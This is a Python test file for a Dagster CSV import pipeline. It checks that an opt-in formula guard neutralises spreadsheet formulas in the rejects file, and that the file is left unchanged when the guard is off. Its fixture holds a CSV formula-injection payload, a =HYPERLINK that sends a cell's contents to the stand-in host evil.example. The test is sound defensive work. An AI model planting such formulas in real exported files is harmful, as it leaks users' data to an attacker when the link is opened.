"""End to end through Dagster ``materialize``: the import asset writes the rejects file with the
formula guard when ``Settings.rejects_formula_guard`` is on, and byte for byte when it is off.

A drop carries a ``=HYPERLINK(…)`` cell in a duplicate row (removed before sending, so it lands
in the rejects file, which users are told to open and fix). The import runs against the real
sandbox process on a real (temporary) Dagster instance, once per setting.
"""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path
from typing import Any

import dagster as dg

from cleanlist_pipeline.dagster_layer.csv_import import build_import_asset
from cleanlist_pipeline.dagster_layer.resources import CleanlistResource
from cleanlist_pipeline.settings import Settings
from tests.dagster_helpers import materialization

HEADER = b"first_name,last_name,email,company_name\n"
EVIL = b'Ann,"=HYPERLINK(""http://evil.example/?""&C2,""open"")",ANN@example.com,+1 555\n'
BODY = HEADER + b"Ann,Lee,ann@example.com,Acme\n" + EVIL + b"Cy,Ng,cy@example.com,Acme\n"


def _import(settings: Settings, instance: dg.DagsterInstance, key: str) -> dict[str, Any]:
    """Materialize partition ``key`` of the import asset; its materialization metadata."""
    instance.add_dynamic_partitions(settings.names.partitions_drops, [key])
    result = dg.materialize(
        [build_import_asset(settings)],
        instance=instance,
        partition_key=key,
        resources={settings.names.resource: CleanlistResource.from_settings(settings)},
    )
    assert result.success
    return materialization(instance, key, settings.names.import_asset)


def test_materialize_writes_guarded_rejects_only_when_asked(
    cleanlist_sandbox: Any, tmp_path: Path
) -> None:
    drops = tmp_path / "drops"
    drops.mkdir()
    (drops / "plain.csv").write_bytes(BODY)
    (drops / "guarded.csv").write_bytes(BODY)
    base = Settings(
        api_key=cleanlist_sandbox.key,
        base_url=cleanlist_sandbox.v1,
        rate_limit_per_key=0,
        max_attempts=3,
        max_total_retry_wait_seconds=2.0,
        state_dir=str(tmp_path / "state"),
        drops_dir=str(drops),
        data_dir=str(tmp_path / "data"),
        list_name="formula guard",
        namespace="formula-guard-tests",
    )
    (tmp_path / "home").mkdir()
    with dg.instance_for_test(temp_dir=str(tmp_path / "home")) as instance:
        plain = _import(base, instance, "plain.csv")
        guarded = _import(replace(base, rejects_formula_guard=True), instance, "guarded.csv")

    assert plain["removed_duplicates"] == guarded["removed_duplicates"] == 1
    assert plain["rows_imported"] == guarded["rows_imported"] == 2
    # Default: the rejected record is the drop's bytes, unchanged.
    plain_bytes = Path(plain["rejects_file"]).read_bytes()
    assert plain_bytes.splitlines(keepends=True)[1].endswith(b"," + EVIL)
    # Opt-in: the formula and the phone are text for a spreadsheet.
    with open(guarded["rejects_file"], newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][0] == "duplicate_email"
    assert rows[1][4:] == [
        "Ann",
        '\'=HYPERLINK("http://evil.example/?"&C2,"open")',
        "ANN@example.com",
        "'+1 555",
    ]
    assert Path(guarded["rejects_file"]).name.startswith("guarded~")
